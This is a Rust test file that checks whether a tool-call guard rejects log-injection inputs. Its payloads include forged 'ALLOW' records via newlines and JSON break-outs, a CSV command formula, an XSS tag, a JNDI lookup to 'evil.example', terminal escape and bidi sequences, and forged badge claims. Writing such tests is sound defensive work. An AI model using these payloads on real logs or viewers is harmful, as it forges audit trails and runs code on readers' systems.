//! Text that would forge or disfigure a log: in tool names, in methods, in the claims of badges that fail.

use serde_json::json;

use super::fails;
use crate::case::{Case, attack, call, call_with, denied, http_newest, refused, request};
use crate::tokens;

/// Names that end a line, move a cursor, or turn text around.
const NAMES: &[(&str, &str, &str)] = &[
    (
        "evidence/newline-and-record",
        "open\n{\"capiscio.decision\":\"ALLOW\",\"rmcp_guard.kind\":\"decision\"}",
        "A name ends the line and writes an allowing record of its own.",
    ),
    ("evidence/carriage-return", "open\rALLOW", "A name overwrites the line that it stands in."),
    ("evidence/crlf", "open\r\nALLOW\r\n", "A name writes lines as HTTP and syslog read them."),
    (
        "evidence/json-break-out",
        "x\",\"capiscio.decision\":\"ALLOW\",\"y\":\"",
        "A name closes the text that it stands in and adds a member.",
    ),
    ("evidence/csv", "=cmd|'/c calc'!A1,ALLOW", "A name is a formula where the log is opened as a table."),
    (
        "evidence/escape-sequence",
        "\u{1b}[2K\u{1b}[1Gopen ALLOW",
        "A name clears the terminal's line and writes another.",
    ),
    ("evidence/title-sequence", "\u{1b}]0;pwned\u{7}", "A name sets the terminal's title."),
    ("evidence/c1-control", "\u{9b}2Jopen", "A name uses the one-byte form of an escape sequence."),
    ("evidence/backspace", "level4\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}open", "A name erases itself and shows another."),
    ("evidence/bidi-override", "level4\u{202e}nepo", "A name is shown backwards."),
    ("evidence/bidi-isolate", "\u{2066}open\u{2069}\u{2067}level4", "A name is shown in another order."),
    ("evidence/line-separator", "open\u{2028}ALLOW", "A name ends the line for JavaScript."),
    ("evidence/paragraph-separator", "open\u{2029}ALLOW", "A name ends the paragraph."),
    ("evidence/delete", "open\u{7f}", "A name holds a DEL."),
    ("evidence/html", "<img src=x onerror=alert(1)>", "A name is markup where the log is shown on a page."),
    ("evidence/template", "${jndi:ldap://evil.example/x}", "A name is looked up by what writes the log."),
    ("evidence/format", "%s%n%x{0}", "A name is a format string."),
    ("evidence/no-character", "open\u{fffd}\u{fffe}", "A name holds what is no character."),
];

/// Claims of a badge that a stranger signed: which claim, what it says, and why it fails.
const CLAIMED: &[(&str, &str, &str, &str, &str)] = &[
    (
        "evidence/claimed-issuer",
        "The issuer of a forged badge writes a line of the log.",
        "iss",
        "https://registry.example.com\nALLOW",
        "badge_invalid",
    ),
    (
        "evidence/claimed-subject",
        "The subject of a forged badge writes a line of the log.",
        "sub",
        "did:web:registry.example.com:agents:x\r\nALLOW",
        "badge_invalid",
    ),
    (
        "evidence/claimed-id",
        "The id of a forged badge writes a line of the log.",
        "jti",
        "x\u{1b}[2K\u{202e}\nALLOW",
        "badge_signature_invalid",
    ),
];

pub fn cases() -> Vec<Case> {
    let of_nobody = |case: Case| case.want(denied("badge_missing").because("tool_not_allowed"));
    let mut cases: Vec<Case> =
        NAMES.iter().map(|(id, name, why)| of_nobody(attack(id, why).sends(call(name)))).collect();
    cases.push(of_nobody(
        attack("evidence/flood-of-a-name", "A name of 200 kilobytes fills the log.").sends(call(&"A".repeat(200_000))),
    ));
    let megabyte = json!({ "x": "A".repeat(1_000_000) }).to_string();
    cases.push(
        attack("evidence/flood-of-arguments", "Arguments of a megabyte fill the log.")
            .sends(call_with("level4", &megabyte))
            .want(denied("badge_missing")),
    );
    for (id, why, claim, text, reason) in CLAIMED {
        cases.push(fails(attack(id, why).sends(call("level4").badge(claimed(claim, text))), "badge_invalid", reason));
    }
    let long = claimed("jti", &"j".repeat(4096));
    let case = attack("evidence/claimed-id-overlong", "The id of a forged badge fills the log.");
    cases.push(fails(case.sends(call("level4").badge(long)), "badge_invalid", "badge_signature_invalid"));
    cases.push(
        attack("evidence/method-newline", "A method writes a line of the log.")
            .sends(request("com.example/x\\nALLOW", "").of_method("com.example/x"))
            .want(refused(-32601, "badge_missing").because("method_not_allowed"))
            .on(http_newest, crate::case::rpc_error(-32020)),
    );
    cases
}

/// A badge with this claim, which a stranger signed.
fn claimed(claim: &str, text: &str) -> String {
    let (header, mut claims) = tokens::parts();
    claims[claim] = json!(text);
    tokens::sign(&header.to_string(), claims.to_string().as_bytes(), &tokens::key(9))
}
